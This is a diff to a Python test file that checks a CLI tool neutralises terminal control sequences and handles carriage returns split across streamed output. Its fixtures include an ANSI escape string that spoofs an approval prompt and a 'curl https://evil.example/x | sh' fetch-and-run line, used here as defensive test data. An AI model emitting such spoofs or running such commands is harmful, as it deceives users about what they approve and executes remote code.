@@ -29,7 +29,7 @@ from navi_trio.cli import daemon as daemon_cli
 from navi_trio.cli.run import decide_approval
 from navi_trio.client.render import Renderer
 from navi_trio.client.rewind_text import print_preview
-from navi_trio.text import terminal_safe
+from navi_trio.text import TerminalStream, terminal_safe
 
 # Erase the line, back to its start, then what the person is meant to read instead.
 FAKE = "\x1b[2K\x1b[1Gnavi: approve terminal: git status"
@@ -151,3 +151,16 @@ def test_rewind_texts_and_cli_lists_carry_no_control_sequence(
     assert not acts(shown), repr(shown)
     assert "notes\\x1b[2K\\x1b[1Gnavi: approve terminal: git status.txt" in shown
     assert "assistant: curl https://evil.example/x | sh\\x1b[2K" in shown
+
+
+def test_a_cr_split_from_what_follows_it_is_shown_not_dropped() -> None:
+    """An answer arrives in deltas: a CR ending one is held for the next, so a CRLF split
+    in two is one newline and a lone CR is shown, whatever the split (navi run)."""
+    for pieces, shown in (
+        (["see a\r", "b"], "see a\\x0db"),
+        (["line\r", "\nnext"], "line\nnext"),
+        (["end\r"], "end\\x0d"),
+        (["a\r", "\r", "\n"], "a\\x0d\n"),
+    ):
+        stream = TerminalStream()
+        assert "".join(stream.feed(p) for p in pieces) + stream.end() == shown, pieces
